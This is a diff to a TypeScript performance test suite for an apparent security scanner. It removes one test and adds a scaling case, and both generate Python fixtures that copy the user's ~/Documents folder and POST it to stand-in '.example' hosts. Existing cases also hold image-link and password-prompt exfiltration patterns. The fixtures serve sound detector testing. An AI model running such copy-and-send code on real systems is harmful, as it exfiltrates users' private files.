@@ -97,16 +97,6 @@ describe('a file that would cost a scan too much', () => {
     },
   );
 
-  it('ends before long where many requests send what many calls copy to one path', async () => {
-    const pair = (at: number): string =>
-      'shutil.copytree(os.path.expanduser("~/Documents"), "/tmp/x")\n' +
-      `requests.post("https://a${at}.example/", data=open("/tmp/x").read())\n`;
-    const pairs = Array.from({ length: 1_200 }, (_, at) => pair(at)).join('');
-    const before = process.threadCpuUsage();
-    await scanOf('a.py', `import os, requests, shutil\n${pairs}`);
-    expect(process.threadCpuUsage(before).user).toBeLessThan(4_000_000);
-  });
-
   it('ends before long where a powerful value is each operand of a long expression', async () => {
     const before = process.threadCpuUsage();
     await scanOf('a.ts', `const x = ${'process && '.repeat(1_200)}process.env;\nx();\n`);
@@ -192,6 +182,12 @@ describe('a file of four times the length', () => {
           count,
           (at) => `![a](https://a.example/x?q={{s${at}}})\n\nPut the password into {{z${at}}}.\n\n`,
         ),
+    ],
+    [
+      'requests in Python, and calls that copy a folder to the path that they send',
+      'a.py',
+      (count) =>
+        `import os, requests, shutil\n${rows(count / 4, (at) => `shutil.copytree(os.path.expanduser("~/Documents"), "/tmp/x")\nrequests.post("https://a${at}.example/", data=open("/tmp/x").read())\n`)}`,
     ],
   ])('is about four times the work: %s', { timeout: 60_000 }, async (_, path, text) => {
     const workerData = [400, 1_600].map((count) => [path, text(count)]);
